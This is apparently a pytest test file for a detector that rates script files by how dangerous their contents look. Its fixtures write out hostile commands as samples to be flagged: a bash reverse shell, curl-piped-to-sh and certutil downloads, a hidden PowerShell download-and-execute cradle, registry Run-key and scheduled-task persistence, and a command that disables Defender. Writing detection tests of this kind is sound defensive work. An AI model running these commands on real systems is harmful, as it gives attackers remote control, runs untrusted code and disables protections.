"""script.present: scripts, weighed by what starts them."""

import pytest

from gifthorse.inspect.detectors import script_present as detector
from gifthorse.model.findings import Severity
from tests.samples.files import findings_of, severities


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("a.bat", b"dir\r\n"),
        ("a.cmd", b"@echo off\r\ncall build.cmd %1\r\n"),
        ("a.ps1", b"Get-Date\r\n"),
    ],
)
def test_what_people_do_give_away_and_a_double_click_starts_is_low(name: str, body: bytes) -> None:
    assert severities(detector, body, name) == [Severity.LOW]


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("a.vbs", b"MsgBox 1"),
        ("a.hta", b"<html><body></body></html>"),
        ("a.wsf", b"<job><script language='VBScript'>x=1</script></job>"),
        ("b.wsf", b"<?xml version='1.0'?><package><job/></package>"),
        ("a.wsh", b"[ScriptFile]\r\nPath=a.vbs\r\n"),
        ("a.sct", b"<?XML version='1.0'?><scriptlet></scriptlet>"),
        ("a.jse", b"#@~^AAAAAA==x"),
    ],
)
def test_kinds_that_nobody_gives_away_and_a_double_click_runs_are_medium(name: str, body: bytes) -> None:
    (finding,) = findings_of(detector, body, name)
    assert finding.severity is Severity.MEDIUM
    assert finding.detail is not None
    assert "double click" in finding.detail.in_english()


@pytest.mark.parametrize(
    ("name", "body", "reason"),
    [
        ("a.bat", b"certutil -urlcache -f http://198.51.100.7/a a.exe\r\n", "network"),
        ("a.bat", b"schtasks /create /tn a /tr b\r\n", "login"),
        ("a.bat", b'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v a /d b\r\n', "login"),
        ("a.sh", b"#!/bin/sh\ncurl https://198.51.100.7/x | sh\n", "network"),
        ("a.ps1", b"Set-MpPreference -DisableRealtimeMonitoring 1\r\n", "protection"),
        ("a.sh", b"#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/99 0>&1\n", "control"),
        ("a.js", b"var s = new ActiveXObject('WScript.Shell'); s.Run('a.exe');", "script host"),
    ],
)
def test_a_script_that_does_something_telling_is_medium_and_says_what(name: str, body: bytes, reason: str) -> None:
    (finding,) = findings_of(detector, body, name)
    assert finding.severity is Severity.MEDIUM
    assert finding.detail is not None
    assert reason in finding.detail.in_english()


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("build.sh", b"#!/bin/sh\n# install with: curl https://example.org/x | sh\nmake all\n"),
        ("hook", b"#!/bin/sh\necho 'run curl https://example.org | sh first'\n"),
        ("build.bat", b"@echo off\r\nREM schtasks /create /tn x\r\nmsbuild a.sln\r\nreg query HKLM\\Software\r\n"),
        ("fetch.sh", b"#!/bin/sh\ncurl -O https://example.org/a.tar.gz\ntar xf a.tar.gz\n"),
        ("gulp.js", b"const { exec } = require('child_process'); exec('tsc');\n"),
        ("net.py", b"import urllib.request\ndata = urllib.request.urlopen(url).read()\n"),
    ],
)
def test_ordinary_build_scripts_and_hooks_stay_below_medium(name: str, body: bytes) -> None:
    assert all(severity.rank < Severity.MEDIUM.rank for severity in severities(detector, body, name))


@pytest.mark.parametrize(
    ("name", "body"),
    [("a.py", b"print(1)\n"), ("tool", b"#!/usr/bin/env python3\nprint(1)\n"), ("page.js", b"document.title = 1;\n"), ("x.sh", b"echo\n")],
)
def test_source_code_is_only_noted(name: str, body: bytes) -> None:
    assert severities(detector, body, name) == [Severity.INFO]


def test_the_language_is_told_by_the_first_line() -> None:
    (finding,) = findings_of(detector, b"#!/usr/bin/env -S perl -w\n1;\n", "tool")
    assert finding.detail is not None
    assert finding.detail.values == {"language": "perl"}


def test_fetching_and_starting_is_medium_and_unseen_high() -> None:
    assert severities(detector, b"curl -o a.exe http://198.51.100.7/a\r\nstart a.exe\r\n", "get.bat") == [Severity.MEDIUM]
    assert severities(
        detector, b"powershell -w hidden -c iex((New-Object Net.WebClient).DownloadString('http://198.51.100.7'))", "x.cmd"
    ) == [Severity.HIGH]


def test_a_set_up_script_that_fetches_an_installer_in_the_open_is_low() -> None:
    body = (
        b"$url = 'https://example.org/a.msi'\n(New-Object Net.WebClient).DownloadFile($url, $p)\nStart-Process msiexec -ArgumentList $p\n"
    )
    assert severities(detector, body, "install.ps1") == [Severity.LOW]


def test_text_about_scripts_is_no_script() -> None:
    assert severities(detector, b"Type @echo off in the first line.", "manual.txt") == []


@pytest.mark.parametrize("encoding", ["ascii", "utf-16"])
def test_a_script_is_judged_alike_in_letters_of_one_and_two_bytes(encoding: str) -> None:
    fetching = "$c = New-Object Net.WebClient; IEX $c.DownloadString('http://example.org/a')"
    starting = 'new ActiveXObject("WScript.Shell").Run("cmd /c ver")'
    assert severities(detector, fetching.encode(encoding), "a.ps1") == [Severity.MEDIUM]
    assert severities(detector, starting.encode(encoding), "a.js") == [Severity.MEDIUM]


def test_commands_in_a_window_that_nobody_sees_are_medium() -> None:
    assert severities(detector, b"Run, powershell -w hidden -c calc,,Hide\n", "a.ahk") == [Severity.MEDIUM]


def test_what_lua_fetches_and_runs_counts() -> None:
    assert severities(detector, b'os.execute("curl http://example.org/a | sh")\n', "a.lua") == [Severity.MEDIUM]


def test_a_script_of_remarks_alone_is_low() -> None:
    assert severities(detector, b"' Nothing in here.\r\nREM really\r\n", "a.vbs") == [Severity.LOW]
    assert severities(detector, b"' Something in here.\r\nx = 1\r\n", "a.vbs") == [Severity.MEDIUM]


SHEET = (
    '<?xml version="1.0"?><stylesheet xmlns="http://www.w3.org/1999/XSL/Transform" xmlns:ms="urn:schemas-microsoft-com:xslt" version="1.0">'
    '<ms:script implements-prefix="user" language="JScript"><![CDATA[{}]]></ms:script></stylesheet>'
)
PROJECT = (
    '<?xml version="1.0"?><Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003"><UsingTask TaskName="T" '
    'TaskFactory="CodeTaskFactory" AssemblyFile="x.dll"><Task><Code Type="Class" Language="cs">{}</Code></Task></UsingTask></Project>'
)


@pytest.mark.parametrize(("form", "name"), [(SHEET, "style.xsl"), (PROJECT, "build.csproj")])
def test_a_script_within_a_style_sheet_or_project_is_found(form: str, name: str) -> None:
    assert severities(detector, form.format("var r = new ActiveXObject('x');").encode(), name) == [Severity.MEDIUM]
    assert severities(detector, form.format("return 1;").encode(), name) == [Severity.LOW]


def test_ordinary_style_sheets_and_projects_are_silent() -> None:
    assert severities(detector, SHEET.replace("ms:script", "ms:text").format("x").encode(), "style.xsl") == []
    assert severities(detector, PROJECT.replace("CodeTaskFactory", "OtherFactory").format("x").encode(), "build.csproj") == []
